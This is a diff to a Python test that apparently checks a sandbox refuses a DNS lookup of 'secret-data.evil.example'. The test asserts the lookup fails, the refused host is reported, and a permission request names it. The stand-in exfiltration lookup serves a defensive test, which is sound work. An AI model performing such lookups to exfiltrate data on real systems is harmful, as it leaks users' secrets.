@@ -73,10 +73,12 @@ def test_a_refused_lookup_fails(make_task: MakeTask, tmp_path: Path) -> None:
     answer = python(
         task,
         tmp_path / "lookup.py",
-        "import socket\ntry: socket.getaddrinfo('secret-data.evil.example', 443)\nexcept OSError as e: print('failed')",
+        "import socket\ntry: socket.getaddrinfo('secret-data.evil.example', 443)\n"
+        "except OSError as e: print('failed', e.errno == socket.EAI_NONAME)",
     )
 
-    assert "failed" in str(answer["output"])
+    assert "failed True" in str(answer["output"]), answer  # for good: nobody tries again
+    assert "secret-data.evil.example" in str(answer["note"])
     assert {text.partition(" wants ")[2] for text in task.asked.texts} == {"secret-data.evil.example"}
 
 
